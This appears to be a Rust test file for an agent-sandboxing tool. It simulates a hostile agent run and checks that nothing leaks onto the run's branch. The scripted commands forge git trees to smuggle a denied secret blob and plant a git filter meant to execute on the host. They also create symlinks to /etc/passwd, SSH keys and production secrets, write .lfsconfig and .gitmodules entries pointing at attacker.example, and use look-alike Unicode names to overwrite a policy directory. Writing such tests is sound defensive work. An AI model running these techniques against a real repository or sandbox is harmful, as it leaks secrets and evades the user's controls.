//! What is kept on a run's branch: never a blob the run does not have, a link out, or a file git runs at checkout.

use super::*;

/// A run that knows a denied file's blob only by its hash commits it under another name, and
/// points its object store at the user's: nothing of it reaches the run's branch (a kept
/// change must refer to a blob the run itself has; alternates are never read).
#[tokio::test(flavor = "multi_thread")]
async fn a_commit_naming_a_denied_blob_by_hash_is_never_kept() {
    let project = Project::new(true);
    // The run never sees the id (the test above); an attacker may know it from elsewhere.
    let secret_blob = git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]);
    let forge = format!(
        "echo {objects} > .git/objects/info/alternates; \
         blob={secret_blob}; \
         tree=$( (git ls-tree HEAD; printf '100644 blob %s\\tleak.txt\\n' $blob) | git mktree --missing); \
         c=$(git -c user.name=a -c user.email=a@b commit-tree $tree -p HEAD -m leak); \
         git update-ref $(git symbolic-ref HEAD) $c; git log --oneline -2",
        objects = project.repo.join(".git/objects").display()
    );
    let (run, events, _) = attack(&project, PERMISSIVE, vec![shell(&forge)]).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    assert!(
        !has_branch(&project, &branch)
            || git(&project.repo, &["ls-tree", "-r", "--name-only", &branch])
                .lines()
                .all(|p| p != "leak.txt"),
        "the forged entry reached the branch"
    );
    assert!(
        events
            .contains("leak.txt refers to an object it does not have; nothing of the run was kept"),
        "{events}"
    );
    // A blob the run has never had, by any hash: refused the same way.
    let absent = "tree=$( (git ls-tree HEAD; printf '100644 blob %s\\tghost.txt\\n' 1234567890123456789012345678901234567890) | git mktree --missing); \
         c=$(git -c user.name=a -c user.email=a@b commit-tree $tree -p HEAD -m ghost); \
         git update-ref $(git symbolic-ref HEAD) $c";
    let (_, events, _) = attack(&project, PERMISSIVE, vec![shell(absent)]).await;
    assert!(
        events.contains("refers to an object it does not have"),
        "{events}"
    );
}

/// A run leaves a nested repository whose own config names a filter, tracked as a submodule:
/// keeping the run's changes reads its working tree with git, which asks the nested
/// repository's status and so runs the filter. It runs in a sandbox, never on the host.
#[tokio::test(flavor = "multi_thread")]
async fn keeping_a_runs_changes_never_runs_what_its_files_name() {
    let project = Project::new(true);
    let host = tempfile::tempdir().unwrap();
    let pwned = host.path().join("pwned");
    let plant = format!(
        "mkdir sub && cd sub && git init -q && git config filter.x.clean \"sh -c 'touch {pwned}; cat'\" && \
         echo '* filter=x' > .gitattributes && echo a > f && git add -A && \
         git -c user.name=a -c user.email=b commit -qm s && cd .. && git add sub && echo b > sub/f; \
         printf 'gitdir: {repo}/.git\\n' > other; mkdir linked && mv other linked/.git; git status --short | head",
        pwned = pwned.display(),
        repo = project.repo.display(),
    );
    attack(&project, PERMISSIVE, vec![shell(&plant)]).await;
    assert!(!pwned.exists(), "a filter the run wrote ran on the host");
}

/// A run swaps its `.git/objects` for a link to the user's objects and stages a denied blob
/// under another name: nothing of it is kept (a link is never followed, and a blob the run
/// does not have is never kept).
#[tokio::test(flavor = "multi_thread")]
async fn a_linked_object_store_never_carries_a_denied_blob_to_the_branch() {
    let project = Project::new(true);
    let swap = format!(
        "blob=$(git rev-parse HEAD:{SECRET}); \
         git update-index --add --cacheinfo 100644,$blob,leak.txt && git update-index --skip-worktree leak.txt; \
         mv .git/objects .git/objects.real && ln -s {objects} .git/objects; ls -la .git",
        objects = project.repo.join(".git/objects").display()
    );
    let (run, _, _) = attack(&project, PERMISSIVE, vec![shell(&swap)]).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    assert_no_branch(&project, &branch);
}

/// A run rewrites one of its own object files so a base subtree reads with a denied blob in
/// it, then commits on top: git does not re-hash a loose object it reads, so the run's copy
/// of the base says what the run wants. The base repository's own objects decide what is
/// kept, and a denied blob under another name refuses the branch.
#[tokio::test(flavor = "multi_thread")]
async fn a_forged_base_tree_never_carries_a_denied_blob_to_the_branch() {
    let project = Project::new(true);
    let secret_blob = git(&project.repo, &["rev-parse", &format!("HEAD:{SECRET}")]);
    let forge = format!(
        "set -e; sec={secret_blob}; s=$(git rev-parse HEAD:src); lst=$(git ls-tree HEAD:src); \
         mkdir -p /tmp/p; mv .git/objects/pack/* /tmp/p/; for p in /tmp/p/*.pack; do git unpack-objects -q < $p; done; \
         f=$( (echo \"$lst\"; printf '100644 blob %s\\tleak.txt\\n' $sec) | git mktree --missing); \
         obj() {{ echo .git/objects/$(echo $1 | cut -c1-2)/$(echo $1 | cut -c3-); }}; \
         rm -f $(obj $s); cp $(obj $f) $(obj $s); \
         n=$(printf 'notes\\n' | git hash-object -w --stdin); \
         t=$( (echo \"$lst\"; printf '100644 blob %s\\tleak.txt\\n100644 blob %s\\tnotes.txt\\n' $sec $n) | git mktree --missing); \
         root=$( (git ls-tree HEAD | grep -v 'src$'; printf '040000 tree %s\\tsrc\\n' $t) | git mktree --missing); \
         c=$(git -c user.name=a -c user.email=b commit-tree $root -p HEAD -m notes); \
         git update-ref $(git symbolic-ref HEAD) $c; git cat-file -p $s | tail -2"
    );
    let before = object_files(&project.repo);
    let (run, events, _) = attack(&project, PERMISSIVE, vec![shell(&forge)]).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    assert_no_branch(&project, &branch);
    assert!(events.contains("nothing of the run was kept"), "{events}");
    // Refused in a quarantine: not one object of the run (the forged tree naming the denied
    // blob under a new name among them) was left in the user's repository.
    assert_eq!(object_files(&project.repo), before);
}

/// Every file under a repository's `.git/objects`, by its path there.
fn object_files(repo: &std::path::Path) -> Vec<String> {
    let top = repo.join(".git/objects");
    let mut found = Vec::new();
    let mut dirs = vec![top.clone()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                dirs.push(path);
            } else {
                found.push(path.strip_prefix(&top).unwrap().display().to_string());
            }
        }
    }
    found.sort();
    found
}

/// A run writes the policy directory and a denied file under other spellings of their names
/// (letter case, a long s, a character HFS+ ignores, a trailing dot, an 8.3 short name, a
/// dotless i that NTFS upper-cases to `I`), which a macOS or Windows checkout of its branch
/// would write into the real ones. None of them is kept on the branch; the run's other change
/// is.
#[tokio::test(flavor = "multi_thread")]
async fn another_spelling_of_a_protected_name_is_never_kept() {
    let project = Project::new(true);
    let upper = SECRET.to_uppercase();
    let dotless = SECRET.replace('i', "\u{131}");
    let write = format!(
        "for d in .Switchboard '.switch\u{200c}board' .switchboard. '.\u{17f}witchboard' SWITCH~1; do mkdir -p \"$d\" && printf 'deny_read = []\\n' > \"$d/agent-policy.toml\"; done; \
         for f in {upper} '{dotless}'; do mkdir -p \"$(dirname \"$f\")\" && echo leaked > \"$f\"; done; echo kept > notes.txt; ls -a"
    );
    let (run, events, seen) = attack(&project, PERMISSIVE, vec![shell(&write)]).await;
    assert!(seen.contains(".Switchboard"), "{seen}");
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    let changed = git(
        &project.repo,
        &["diff", "--name-only", &project.head, &branch],
    );
    assert_eq!(changed, "notes.txt", "{events}");
}

/// A run commits symbolic links to the denied file (directly, through its directory, from
/// the root, through a chain of links whose `..` a lexical reading would miss), out of the
/// repository (absolute, by `..`, a Windows drive) and into `.git`,
/// and files that make git on the user's machine run or fetch what they name at checkout
/// (`.gitattributes` with an lfs filter, `.lfsconfig`, `.gitmodules`, in any directory, and
/// an 8.3 short name that may alias one on Windows).
/// None is kept on the branch; a link inside the project and the run's other change are.
#[tokio::test(flavor = "multi_thread")]
async fn links_out_and_files_git_runs_at_checkout_are_never_kept() {
    let project = Project::new(true);
    let write = "ln -s ../config/production-secrets.toml src/leak; ln -s ../config src/conf; \
         ln -s . here; ln -s /etc/passwd abs; ln -s ../../elsewhere/secret src/up; \
         ln -s 'C:/Windows/win.ini' win; ln -s .git/config gitconf; ln -s ../.switchboard src/pol; \
         mkdir -p a/b && ln -s .. a/b/up && ln -s up/../config/production-secrets.toml a/b/leak && ln -s up/../../../.ssh/id_rsa a/b/key && ln -s UP/../config/production-secrets.toml a/b/mac; \
         ln -s lib.rs src/ok; printf '* filter=lfs diff=lfs merge=lfs\\n' > .gitattributes; \
         mkdir -p sub && printf '*.rs filter=evil\\n' > sub/.gitattributes; \
         printf '[lfs]\\n\\turl = https://attacker.example/\\n' > .lfsconfig; \
         printf '[submodule \"x\"]\\n\\turl = https://attacker.example/x\\n' > .gitmodules; \
         printf '* filter=lfs\\n' > GITATT~1; echo kept > notes.txt; git add -A && git -c user.name=a -c user.email=a@b commit -qm links && git ls-tree -r HEAD";
    let (run, events, seen) = attack(&project, PERMISSIVE, vec![shell(write)]).await;
    assert!(seen.contains("src/leak"), "{seen}");
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    let changed = git(
        &project.repo,
        &["diff", "--name-only", &project.head, &branch],
    );
    assert_eq!(changed, "a/b/up\nnotes.txt\nsrc/ok", "{events}");
}

/// A denied file whose bytes the base also shows elsewhere (an empty `.env` is every empty
/// file): a run that adds an empty file keeps it, since the id names nothing it could not read.
#[tokio::test(flavor = "multi_thread")]
async fn a_run_keeps_a_file_whose_bytes_a_denied_file_shares_with_an_allowed_one() {
    let mut project = Project::new(true);
    std::fs::write(project.repo.join(".env"), "").unwrap();
    std::fs::write(project.repo.join("src/empty.txt"), "").unwrap();
    git(&project.repo, &["add", "-A"]);
    git(&project.repo, &["commit", "-q", "-m", "an empty .env"]);
    project.head = git(&project.repo, &["rev-parse", "HEAD"]);
    let turns = vec![shell("touch src/__init__.py; echo kept > notes.txt")];
    let (run, events, _) = attack(&project, PERMISSIVE, turns).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    let changed = git(
        &project.repo,
        &["diff", "--name-only", &project.head, &branch],
    );
    assert_eq!(changed, "notes.txt\nsrc/__init__.py", "{events}");
}

/// A base with a `.gitattributes` inside a directory, and a run that replaces the directory
/// with a link (and, elsewhere, the file with a directory of that name): neither replacement
/// is kept, since applying it would remove the file keeping never writes, and the run's other
/// changes are kept rather than the run refused.
#[tokio::test(flavor = "multi_thread")]
async fn replacing_a_directory_that_holds_a_file_never_kept_keeps_the_rest() {
    let mut project = Project::new(true);
    std::fs::create_dir_all(project.repo.join("docs")).unwrap();
    std::fs::create_dir_all(project.repo.join("web/.gitattributes-dir")).unwrap();
    std::fs::write(project.repo.join("docs/.gitattributes"), "*.md text\n").unwrap();
    std::fs::write(project.repo.join("docs/a.md"), "a\n").unwrap();
    std::fs::write(project.repo.join("web/.gitattributes"), "*.js text\n").unwrap();
    std::fs::write(project.repo.join("web/app.js"), "app\n").unwrap();
    git(&project.repo, &["add", "-A"]);
    git(&project.repo, &["commit", "-q", "-m", "attributes"]);
    project.head = git(&project.repo, &["rev-parse", "HEAD"]);
    let turns = vec![shell(
        "rm -rf docs && ln -s src docs; rm web/.gitattributes && mkdir web/.gitattributes && echo x > web/.gitattributes/inner; echo kept > notes.txt",
    )];
    let (run, events, _) = attack(&project, PERMISSIVE, turns).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    let changed = git(
        &project.repo,
        &["diff", "--name-status", &project.head, &branch],
    );
    assert_eq!(changed, "D\tdocs/a.md\nA\tnotes.txt", "{events}");
    assert!(events.contains("not kept"), "{events}");
}

/// A link whose target's bytes are those of a file the run was given (`lib.rs`, the text of
/// a committed file): read from what the run was given, and kept as the link it is.
#[tokio::test(flavor = "multi_thread")]
async fn a_link_whose_target_is_the_text_of_a_given_file_is_kept() {
    let mut project = Project::new(true);
    std::fs::write(project.repo.join("src/name.txt"), "lib.rs").unwrap();
    git(&project.repo, &["add", "-A"]);
    git(&project.repo, &["commit", "-q", "-m", "a name"]);
    project.head = git(&project.repo, &["rev-parse", "HEAD"]);
    let turns = vec![shell("ln -s lib.rs src/alias")];
    let (run, events, _) = attack(&project, PERMISSIVE, turns).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    let changed = git(
        &project.repo,
        &["diff", "--name-only", &project.head, &branch],
    );
    assert_eq!(changed, "src/alias", "{events}");
}
